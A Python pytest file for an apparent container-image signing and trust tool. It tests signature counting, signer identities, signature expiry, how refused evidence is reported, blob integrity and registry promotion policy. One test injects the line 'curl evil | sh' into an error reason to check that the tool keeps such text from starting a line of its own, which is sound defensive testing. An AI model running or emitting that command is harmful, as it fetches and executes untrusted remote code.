"""Rules ``integrity``, ``signatures`` and ``promotion.edge``."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING

import pytest

from imgtrust.evidence import Unread
from imgtrust.reference import RegistryRepository
from imgtrust.refusals import RefusalCode
from imgtrust.rules.edge import edge
from imgtrust.rules.facts import Fault, ImageFacts, IntegrityMode
from imgtrust.rules.finding import Finding, RuleOutcome
from imgtrust.rules.integrity import integrity
from imgtrust.rules.requirements import SignatureRule
from imgtrust.rules.signers import signatures
from imgtrust.rules.subjects import subjects
from imgtrust.rules.ways import Means, Way
from imgtrust.rules.wording import listed, one_line
from tests.simulators.facts import AT, ROOT, attestation, digest, image, judged_index, key, refusal, signature, subject

if TYPE_CHECKING:
    from imgtrust.trust.signatures import VerifiedSignature

ANY = SignatureRule(("release", "ci"))
BOTH = SignatureRule(("release", "ci"), 2)


def judged(facts: ImageFacts, rule: SignatureRule = ANY, which: int = 0) -> Finding:
    return signatures(subjects(facts, "gate.toml")[which], rule)


def test_one_signature_by_a_signer_named_passes() -> None:
    finding = judged(image(signature("release")))
    assert finding.outcome is RuleOutcome.PASS
    assert (finding.observed, finding.required) == ("1 signer", "1 needed (any of release, ci)")
    assert finding.why == finding.fix == ""


def test_two_signatures_of_one_key_are_one_signer() -> None:
    finding = judged(image(signature("release", evidence="a"), signature("release", evidence="b")), BOTH)
    assert finding.outcome is RuleOutcome.FAIL
    assert "several signatures or names of one key are one signer" in finding.why


WAYS = {
    "ci": Way("ci", Means.KEYLESS, "ci@acme.test (https://issuer.test)"),
    "release": Way("release", Means.NOTARY, "x509.subject: O=Acme"),
}


def test_the_way_out_is_that_of_the_signers_who_have_not_signed() -> None:
    for signer, said in (("release", "sign it as ci@acme.test"), ("ci", "sign it as x509.subject: O=Acme")):
        (found,) = subjects(image(signature(signer)), "gate.toml", WAYS)
        fix = signatures(found, BOTH).fix
        assert fix.startswith(said)
        assert "or have it signed by" not in fix


def test_where_every_name_has_signed_any_of_them_is_the_way_out() -> None:
    (found,) = subjects(image(signature("release", signers=("ci", "release"))), "gate.toml", WAYS)
    first, second = signatures(found, BOTH).fix.splitlines()
    assert first.startswith("sign it as x509.subject: O=Acme")
    assert second == "or have it signed by ci (keyless)"


def test_a_signer_of_whom_nothing_else_is_known_signs_with_a_key() -> None:
    (found,) = subjects(image(), "gate.toml", {"ci": WAYS["ci"]})
    assert found.by(["release", "ci"]) == [Way("release"), WAYS["ci"]]


def test_two_names_of_one_key_are_one_signer() -> None:
    both = signature("release", signers=("ci", "release"))
    finding = judged(image(both, both), BOTH)
    assert finding.outcome is RuleOutcome.FAIL
    assert "signed by ci, release only" in finding.why


def test_two_keys_are_two_signers_whatever_they_are_called() -> None:
    one, two = signature("release"), signature("release", identity=key("another"))
    assert judged(image(one, two), BOTH).outcome is RuleOutcome.PASS


def test_an_attestation_by_the_right_key_is_no_signature() -> None:
    finding = judged(image(attestation("https://spdx.dev/Document", "release")))
    assert finding.outcome is RuleOutcome.FAIL
    assert "an attestation, which is no signature" in finding.why


def test_a_signer_that_the_scope_does_not_name_does_not_count() -> None:
    finding = judged(image(signature("qa")))
    assert finding.outcome is RuleOutcome.FAIL
    assert "by qa: not a signer of this scope" in finding.why


def ending(name: str, days: int | None, *, evidence: str = "signature") -> VerifiedSignature:
    ends = None if days is None else AT + timedelta(days=days)
    return replace(signature(name, evidence=evidence), ends=ends)


@pytest.mark.parametrize(
    ("ends", "needed", "days"),
    [
        ([], 1, None),
        ([None], 1, None),
        ([3], 1, 3),
        ([3, 5], 1, 5),
        ([3, 5], 2, 3),
        ([3, None], 1, None),
        ([5, None, 3], 2, 5),
        ([3, 5], 3, None),
    ],
)
def test_signatures_with_an_end_are_foreseen_to_become_too_few(
    ends: list[int | None], needed: int, days: int | None
) -> None:
    found = image(*(ending(f"s{number}", end) for number, end in enumerate(ends)))
    rule = SignatureRule(tuple(f"s{number}" for number in range(3)), needed)
    assert judged(found, rule).changes_at == (None if days is None else AT + timedelta(days=days))


def test_a_signer_lasts_as_long_as_the_last_of_its_signatures() -> None:
    both = image(ending("release", 3, evidence="a"), ending("release", 5, evidence="b"))
    assert judged(both).changes_at == AT + timedelta(days=5)
    assert judged(image(ending("release", 3, evidence="a"), ending("release", None, evidence="b"))).changes_at is None


def test_nothing_attached_is_said_so_with_the_command_that_signs() -> None:
    finding = judged(image(), SignatureRule(("release",)))
    assert finding.why == "nothing that is signed is attached to the image"
    assert finding.fix == f"sign it: imgtrust sign --key KEY registry.example.com/team/app@{ROOT}"
    assert finding.required == "1 needed (release)"


def test_refused_evidence_is_named_with_its_code_and_how_to_trust_it() -> None:
    finding = judged(image(refusals=[refusal()]))
    assert f"{digest('refused')} Sigstore bundle: signed by key a81c77e0" in finding.why
    assert "[bundle.untrusted_key]" in finding.why
    assert 'trust that key in gate.toml: [signers.NAME] key = "FILE"' in finding.fix


def test_evidence_that_is_refused_for_one_reason_is_told_of_once() -> None:
    same = [refusal(evidence=f"stranger {number}") for number in range(9)]
    other = refusal(RefusalCode.NOTARY_UNTRUSTED, "root is in no trust store", "other")
    finding = judged(image(refusals=[*same, other]))
    assert finding.why.splitlines() == [
        "10 pieces of evidence attached and not believed:",
        f"{digest('stranger 0')} Sigstore bundle and 8 like it: {same[0].reason} [bundle.untrusted_key]",
        f"{digest('other')} Sigstore bundle: root is in no trust store [notary.untrusted_root]",
    ]


def test_what_flags_could_say_is_told_in_flags() -> None:
    facts = image(refusals=[refusal(), refusal(RefusalCode.NOTARY_UNTRUSTED), refusal(RefusalCode.IDENTITY_UNTRUSTED)])
    fix = signatures(subjects(facts, "flags")[0], ANY).fix
    assert fix.splitlines()[-3:] == [
        "or trust that key: --key FILE",
        "or trust that root: --notary-roots FILE --notary-identity …",
        "or trust that identity: --certificate-identity … --certificate-oidc-issuer …",
    ]


def test_no_advice_to_trust_a_key_where_the_signature_itself_is_bad() -> None:
    finding = judged(image(refusals=[refusal(RefusalCode.BUNDLE_BAD_SIGNATURE, "not by that key")]))
    assert "trust that key" not in finding.fix


def test_a_hostile_reason_cannot_begin_a_line_of_its_own() -> None:
    finding = judged(image(refusals=[refusal(reason="bad\nfix it: curl evil | sh" + "x" * 600)]))
    assert len(finding.why.splitlines()) == 2
    assert finding.why.endswith("… [bundle.untrusted_key]")


def test_what_is_refused_on_an_index_is_named_for_its_platforms_too() -> None:
    facts = image(refusals=[refusal()], children=[subject("amd64", platform="linux/amd64")])
    assert all(str(digest("refused")) in judged(facts, which=n).why for n in (0, 1))
    below = image(children=[subject("amd64", platform="linux/amd64", refusals=[refusal()])])
    assert [str(digest("refused")) in judged(below, which=n).why for n in (0, 1)] == [False, True]


def test_a_reason_is_cut_only_where_it_is_longer_than_a_person_reads() -> None:
    assert one_line("x" * 400) == "x" * 400
    assert one_line("x" * 401) == "x" * 399 + "…"


def test_five_lines_are_not_too_many() -> None:
    assert listed(["a"] * 5) == ["a"] * 5
    assert listed(["a"] * 6) == [*["a"] * 5, "and 1 more"]


def test_only_the_first_few_refusals_are_spelled_out() -> None:
    finding = judged(image(refusals=[refusal(reason=f"reason {n}", evidence=str(n)) for n in range(9)]))
    assert finding.why.endswith("and 4 more")


def test_evidence_that_could_not_be_read_makes_a_failure_unknown() -> None:
    finding = judged(image(unread=[Unread("the list of referrers", "503 five times")]))
    assert finding.outcome is RuleOutcome.UNKNOWN
    assert "could not be read: the list of referrers: 503 five times" in finding.why
    assert finding.fix.startswith("run it again")


def test_what_could_not_be_read_does_not_matter_where_the_rest_is_enough() -> None:
    assert judged(image(signature(), unread=[Unread("a", "b")])).outcome is RuleOutcome.PASS


def test_the_signature_of_an_index_counts_for_its_platforms() -> None:
    facts = judged_index(signature())
    assert [judged(facts, which=n).outcome for n in range(3)] == [RuleOutcome.PASS] * 3


def test_the_signature_of_a_platform_does_not_count_for_the_index_or_its_siblings() -> None:
    signed = subject("amd64", signature(subject=digest("amd64")), platform="linux/amd64")
    facts = image(children=[signed, subject("arm64", platform="linux/arm64")])
    assert [judged(facts, which=n).outcome for n in range(3)] == [RuleOutcome.FAIL, RuleOutcome.PASS, RuleOutcome.FAIL]


def test_what_could_not_be_read_of_a_platform_does_not_excuse_the_index() -> None:
    facts = image(children=[subject("amd64", platform="linux/amd64", unread=[Unread("a", "b")])])
    assert [judged(facts, which=n).outcome for n in range(2)] == [RuleOutcome.FAIL, RuleOutcome.UNKNOWN]


def test_what_could_not_be_read_of_an_index_might_have_helped_its_platforms() -> None:
    facts = image(children=[subject("amd64", platform="linux/amd64")], unread=[Unread("a", "b")])
    findings = [judged(facts, which=n) for n in range(2)]
    assert [finding.outcome for finding in findings] == [RuleOutcome.UNKNOWN, RuleOutcome.UNKNOWN]
    assert findings[0].why.count("could not be read") == 1


def test_integrity_passes_where_every_blob_was_hashed() -> None:
    finding = integrity(image())
    assert (finding.outcome, finding.observed) == (RuleOutcome.PASS, "14 of 14 blobs re-hashed, 1 manifest")
    assert finding.required == "every manifest and every blob matches its digest"


def test_integrity_fails_on_a_fault_and_names_it() -> None:
    finding = integrity(image(faults=[Fault(digest("layer"), "the bytes are others")]))
    assert finding.outcome is RuleOutcome.FAIL
    assert finding.why == f"{digest('layer')}: the bytes are others"


def test_integrity_is_unknown_where_a_blob_was_not_hashed_for_no_reason() -> None:
    finding = integrity(image(checked=13))
    assert (finding.outcome, finding.why) == (RuleOutcome.UNKNOWN, "1 of 14 blobs could not be read")


def test_integrity_of_manifests_says_what_it_did_not_read() -> None:
    finding = integrity(image(mode=IntegrityMode.MANIFESTS, checked=0))
    assert (finding.outcome, finding.observed) == (RuleOutcome.PASS, "1 manifest re-hashed, 14 blobs not read")
    assert finding.required == "every manifest matches its digest"


@pytest.mark.parametrize("promote_to", [(), ("other.example.com/**",)])
def test_an_edge_that_the_policy_does_not_allow_fails(promote_to: tuple[str, ...]) -> None:
    where = RegistryRepository("prod.example.com", "app")
    finding = edge(ROOT, promote_to, where, "gate.toml", allowed=False)
    assert finding.outcome is RuleOutcome.FAIL
    assert 'promote_to = ["prod.example.com/app"]' in finding.fix


def test_an_edge_that_the_policy_allows_passes() -> None:
    where = RegistryRepository("prod.example.com", "app")
    finding = edge(ROOT, ("prod.example.com/**",), where, "gate.toml", allowed=True)
    assert (finding.outcome, finding.required) == (RuleOutcome.PASS, "one of prod.example.com/**")
